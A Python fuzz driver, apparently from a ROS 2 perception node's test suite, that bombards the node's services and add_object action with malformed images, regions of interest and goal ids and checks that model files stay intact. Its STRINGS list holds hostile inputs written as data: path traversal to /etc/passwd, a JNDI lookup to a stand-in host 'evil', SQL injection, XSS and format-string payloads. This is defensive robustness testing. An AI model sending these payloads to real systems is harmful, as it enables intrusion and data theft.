"""Client process for test_hostile_clients.py: a hostile client of a running vlkd_perception node over DDS.

Usage: python hostile_driver.py CONFIG_JSON. Prints one JSON line per check ({"check": ..., ...}).
It fires CONFIG["calls"] calls, a seeded mix of valid queries and hostile strings, images and shot lists on every
field of every service and of the ~/add_object action (goals; cancel and result requests for random, real and
all-goal ids), while a static camera streams (so take_next_frames goals see one view only); each call counts once
it is answered (a goal: once it ended). Then it fingerprints the model dir (registry and every weights file), makes
one valid ~/add_object goal and, when CONFIG["second_node_cmd"] is given, starts a second node on the same model dir
and asks it to learn too. CONFIG: {"node", "known", "calls", "in_flight", "model_dir", "shots_dir", "camera_cmd",
"second_node_cmd", "second_node"}.
"""
from __future__ import annotations

import hashlib
import json
import random
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import rclpy
from action_msgs.msg import GoalInfo
from action_msgs.srv import CancelGoal
from sensor_msgs.msg import Image, RegionOfInterest
from unique_identifier_msgs.msg import UUID

from node_driver import STATUS, Driver, emit, load_shots, start_camera, wait_until
from vlkd_interfaces.action import AddObject
from vlkd_interfaces.srv import IsGraspable, ListObjects, QueryObjects
from vlkd_ros.ros.client import PerceptionClient, interrupt
from vlkd_ros.ros.image_msgs import numpy_to_image

CALL_TIMEOUT_S = 90.0
STRINGS = ["../../etc/passwd", "物体 ☃ \u202e", "drop table objects;", "ob\x00ject", "", "   ", "\t\n\r",
           "x" * 5000, "a/b", "a\\b", "zero\u200bwidth", "\u202eelcric der", "%s%s%n%x", "${jndi:ldap://evil/x}",
           "<script>alert(1)</script>", "名前" * 60, "😀 mug", "\x7f\x1b[31m", "nul\x00", "' OR 1=1 --", "-1",
           "frames-000000000000", "\u2028line", "\ufeffbom", "a" * 101]


def fingerprint(model_dir: Path) -> dict[str, str]:
    """SHA-256 of the registry and every weights, shots and ONNX file of the model dir."""
    files = [model_dir / "registry.json", model_dir / "model.safetensors"] + sorted(
        p for folder in ("weights", "objects", "onnx") for p in (model_dir / folder).glob("*") if p.is_file())
    return {str(p.relative_to(model_dir)): hashlib.sha256(p.read_bytes()).hexdigest() for p in files}


def image(array: np.ndarray, encoding: str = "rgb8") -> Image:
    return numpy_to_image(array, encoding, "hostile")


def broken_images(rng: np.random.Generator) -> list[Image]:
    """Images whose fields lie: encodings, sizes, steps, data lengths."""
    ok = rng.integers(0, 256, (48, 64, 3), dtype=np.uint8)
    out = []
    for encoding in ("yuv422", "", "32FC1", "bayer_rggb8", "rgb8\x00", "RGB8", "16UC1"):
        msg = image(ok)
        msg.encoding = encoding
        out.append(msg)
    short = image(ok)
    short.data = bytes(short.data)[:100]
    long = image(ok)
    long.data = bytes(long.data) + bytes(1000)
    huge = image(ok)
    huge.width = huge.height = 65535
    huge.step = 65535 * 3
    step = image(ok)
    step.step = 7
    zero = Image(width=0, height=0, encoding="rgb8", step=0, data=bytes(30))
    wide = Image(width=1, height=0, encoding="rgb8", step=3, data=b"")
    return out + [short, long, huge, step, zero, wide]


def junk_frames(rng: np.random.Generator) -> list[np.ndarray]:
    """Frames that decode fine but show no object."""
    return [np.full((480, 640, 3), 128, np.uint8), np.full((48, 48, 3), int(rng.integers(0, 256)), np.uint8),
            rng.integers(0, 256, (96, 96, 3), dtype=np.uint8),
            np.clip(128 + rng.normal(0, 10, (64, 64, 3)), 0, 255).astype(np.uint8),
            np.full((8, 8, 3), 200, np.uint8)]


class Hostile:
    """Builds and fires the calls; counts what came back."""

    def __init__(self, d: Driver, cfg: dict, rng: random.Random) -> None:
        self.d, self.cfg, self.rng = d, cfg, rng
        self.np_rng = np.random.default_rng(rng.randrange(2**32))
        # the action's own services, called as raw services with any goal id
        self.cancel = d.node.create_client(CancelGoal, f"{d.ns}/add_object/_action/cancel_goal")
        self.get_result = d.node.create_client(AddObject.Impl.GetResultService, f"{d.ns}/add_object/_action/get_result")
        self.shots = load_shots(cfg["shots_dir"])
        self.camera_ok = [image(f) for f in (self.np_rng.integers(0, 256, (48, 64, 3), dtype=np.uint8),)]
        self.goal_ids: list[bytes] = []
        self.lock = threading.Lock()
        self.results: list[dict] = []

    def clients(self) -> tuple:
        return (self.cancel, self.get_result)

    # ----- one call of each kind ------------------------------------------------------------------------

    def string(self) -> str:
        return self.rng.choice(STRINGS + self.cfg["known"])

    def any_image(self) -> Image:
        pick = self.rng.random()
        if pick < 0.5:
            return self.rng.choice(broken_images(self.np_rng))
        return image(self.rng.choice(junk_frames(self.np_rng)))

    def shot_list(self) -> tuple[str, list[Image], int]:
        """(kind, images, take_next_frames) of a hostile add_object goal; none is a set of distinct views."""
        rng, frames = self.rng, junk_frames(self.np_rng)
        real = self.rng.choice(self.shots)
        kinds = {
            "grey": lambda: ([image(frames[0])] * 5, 0),
            "noise": lambda: ([image(self.np_rng.integers(0, 256, (96, 96, 3), dtype=np.uint8)) for _ in range(5)], 0),
            "duplicates": lambda: ([real] * 5, 0),
            "junk_mix": lambda: ([image(rng.choice(frames)) for _ in range(5)], 0),
            "one_bad": lambda: (self.shots[:4] + [image(frames[0])], 0),
            "broken": lambda: ([real, real, rng.choice(broken_images(self.np_rng)), real, real], 0),
            "too_few": lambda: (self.shots[:1], 0),
            "too_many": lambda: ([image(np.full((16, 16, 3), i, np.uint8)) for i in range(51)], 0),
            "tiny": lambda: ([image(np.full((4, 4, 3), 10 * i, np.uint8)) for i in range(5)], 0),
            "nothing": lambda: ([], 0),
            "both": lambda: (self.shots, 5),
            "take_huge": lambda: ([], 4294967295),
            "take_one": lambda: ([], 1),
            "take_static": lambda: ([], 5),  # accepted, then fails: the camera is static
        }
        kind = rng.choice(list(kinds))
        images, take = kinds[kind]()
        return kind, images, take

    def plan(self, n: int) -> list[tuple]:
        """(kind, client, request, valid query?) x n: a third valid queries, the rest hostile on every service and
        the action (client None: an AddObject goal)."""
        calls = []
        known = self.cfg["known"]
        for i in range(n):
            r = self.rng.random()
            if r < 0.33:
                req = IsGraspable.Request(object_name=self.rng.choice(known + ["flying saucer", "tea cup"]))
                if self.rng.random() < 0.3:
                    req.image = self.camera_ok[0]
                calls.append(("valid_query", self.d.grasp, req, True))
            elif r < 0.45:
                req = IsGraspable.Request(object_name=self.string())
                if self.rng.random() < 0.6:
                    req.image = self.any_image()
                calls.append(("hostile_query", self.d.grasp, req, False))
            elif r < 0.72:
                kind, images, take = self.shot_list()
                kind = f"add_{kind}"
                name = self.rng.choice(STRINGS + ["red circle", "toy block", known[0]])
                if kind == "add_take_static" or self.rng.random() < 0.3:  # names the node accepts ("ob" via NUL)
                    name = self.rng.choice(["drop table objects;", "ob\x00ject", "toy block", "red circle", "物体 ☃"])
                desc = self.rng.choice(["", "a\x00b", "overwritten description", "x" * 600, "\u202eevil", "ok"])
                goal = AddObject.Goal(name=name, description=desc, images=images, take_next_frames=take)
                if images and self.rng.random() < 0.3:  # regions of interest that lie
                    goal.rois = [self.roi() for _ in range(self.rng.choice([len(images), 1, 60]))]
                calls.append((kind, None, goal, False))
            elif r < 0.78:
                names = [self.string() for _ in range(self.rng.randint(0, 6))]
                req = QueryObjects.Request(object_names=names)
                if self.rng.random() < 0.5:
                    req.image = self.any_image()
                calls.append(("hostile_query_objects", self.d.objects, req, False))
            elif r < 0.84:
                req = AddObject.Impl.GetResultService.Request(goal_id=self.goal_id())
                calls.append(("result", self.get_result, req, False))
            elif r < 0.92:
                req = CancelGoal.Request(goal_info=GoalInfo(goal_id=self.goal_id()))
                calls.append(("cancel", self.cancel, req, False))
            else:
                calls.append(("list_objects", self.d.list, ListObjects.Request(), False))
        return calls

    def roi(self) -> RegionOfInterest:
        """A region of interest anywhere, of any size (most reach outside a shot)."""
        big = 2**32 - 1
        pick = lambda: self.rng.choice([0, 1, 7, 47, 48, 4000, big])  # noqa: E731
        return RegionOfInterest(x_offset=pick(), y_offset=pick(), width=pick(), height=pick(),
                                do_rectify=self.rng.random() < 0.5)

    def goal_id(self) -> UUID:
        """A goal id: one of a goal sent before, or random, or all zeros (for a cancel: every goal)."""
        with self.lock:
            ids = list(self.goal_ids)
        r = self.rng.random()
        if ids and r < 0.4:
            return UUID(uuid=list(self.rng.choice(ids)))
        return UUID(uuid=[0] * 16 if r < 0.5 else [self.rng.randrange(256) for _ in range(16)])

    # ----- firing ---------------------------------------------------------------------------------------

    def fire(self, calls: list[tuple], in_flight: int) -> None:
        """Send the calls with up to `in_flight` unanswered (a goal: until its result came)."""
        slots = threading.Semaphore(in_flight)
        for kind, client, request, valid in calls:
            slots.acquire()
            sent = time.perf_counter()

            def record(row: dict, kind=kind, valid=valid, sent=sent) -> None:
                row.update(kind=kind, valid=valid, seconds=time.perf_counter() - sent)
                with self.lock:
                    self.results.append(row)
                slots.release()

            def answered(future, record=record) -> None:
                reply = future.result()
                record({"success": reply.success, "message": reply.message} if hasattr(reply, "success") else {})

            def ended(future, record=record) -> None:
                reply = future.result()
                record({"status": STATUS.get(reply.status, str(reply.status)), "success": reply.result.success,
                        "message": reply.result.message})

            def taken(future, record=record, ended=ended) -> None:
                handle = future.result()
                if not handle.accepted:
                    record({"status": "rejected", "message": ""})
                    return
                with self.lock:
                    self.goal_ids.append(bytes(handle.goal_id.uuid))
                handle.get_result_async().add_done_callback(ended)

            if client is None:
                self.d.learn.send_goal_async(request).add_done_callback(taken)
            else:
                client.call_async(request).add_done_callback(answered)
        end = time.monotonic() + CALL_TIMEOUT_S
        while len(self.results) < len(calls) and time.monotonic() < end:
            time.sleep(0.05)

    def summary(self, calls: list[tuple], seconds: float) -> dict:
        with self.lock:
            rows = list(self.results)
        kinds: dict[str, int] = {}
        for kind, *_ in calls:
            kinds[kind] = kinds.get(kind, 0) + 1
        goals = [r for r in rows if r["kind"].startswith("add_")]
        return {"sent": len(calls), "answered": len(rows), "seconds": round(seconds, 1), "kinds": kinds,
                "valid": sum(1 for r in rows if r["valid"]),
                "valid_ok": sum(1 for r in rows if r["valid"] and r.get("success")),
                "valid_failures": sorted({r["message"][:120] for r in rows if r["valid"] and not r.get("success")}),
                "goal_statuses": sorted({r["status"] for r in goals}),
                "add_succeeded_kinds": sorted({r["kind"] for r in goals if r.get("success")}),
                "add_refusals": sorted({r["message"][:90] for r in goals if r["status"] == "aborted"})[:80],
                "static_timeouts": sorted({r["message"] for r in goals if r["kind"] == "add_take_static"
                                           and "distinct frames arrived" in r.get("message", "")})[:5],
                "hostile_query_ok": sum(1 for r in rows if r["kind"] == "hostile_query" and r.get("success")),
                "slowest_s": round(max((r["seconds"] for r in rows), default=0.0), 2)}


def main() -> int:
    cfg = json.loads(sys.argv[1])
    model_dir = Path(cfg["model_dir"])
    rclpy.init()
    d = Driver(cfg["node"])
    h = Hostile(d, cfg, random.Random(cfg.get("seed", 0)))
    camera = start_camera(cfg["camera_cmd"])
    try:
        if not d.wait_for_services(90.0, h.clients()):
            emit("services", ok=False)
            return 3
        emit("services", ok=True)
        got = wait_until(lambda: (r := d.ask(cfg["known"][0], timeout=5.0)) is not None and r.success, 40.0, 0.3)
        emit("camera", ok=got)
        before = fingerprint(model_dir)
        emit("fingerprint_before", files=before)

        calls = h.plan(int(cfg["calls"]))
        start = time.monotonic()
        h.fire(calls, int(cfg.get("in_flight", 8)))
        emit("hostile", **h.summary(calls, time.monotonic() - start))
        listing = d.call(d.list, ListObjects.Request())
        emit("objects_after_hostile", names=list(listing.names), descriptions=list(listing.descriptions),
             model_version=listing.model_version)
        emit("fingerprint_after_hostile", files=fingerprint(model_dir))
        registry_before = json.loads((model_dir / "registry.json").read_text())

        goal = AddObject.Goal(name="Orange Square", description="a small square that is plain orange", images=h.shots)
        ended = d.add_object(goal, timeout=150.0)
        emit("valid_add", ended=ended is not None, status=STATUS.get(ended[0]) if ended else None,
             message=ended[1].message if ended else "timeout")
        emit("registry", before=registry_before, after=json.loads((model_dir / "registry.json").read_text()))

        if cfg.get("second_node_cmd"):
            second = subprocess.Popen(cfg["second_node_cmd"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            other = PerceptionClient(cfg["second_node"], "vlkd_hostile_second")
            try:
                ok = other.wait_for_services(90.0)
                ok = ok and wait_until(lambda: (r := other.call(other.list, ListObjects.Request(), 5.0)) is not None
                                       and r.model_version != "", 60.0, 0.5)
                ended = other.add_object(AddObject.Goal(name="mystery box", images=h.shots), timeout=60.0)
                emit("second_node", ok=ok, status=STATUS.get(ended[0]) if ended else None,
                     message=ended[1].message if ended else "timeout")
            finally:
                other.close()
                interrupt(second, 15.0)
                emit("second_node_stopped", returncode=second.returncode)
        return 0
    finally:
        emit("camera_stopped", stderr_tail=interrupt(camera, 10.0)[-300:])
        d.close()
        rclpy.try_shutdown()


if __name__ == "__main__":
    sys.exit(main())
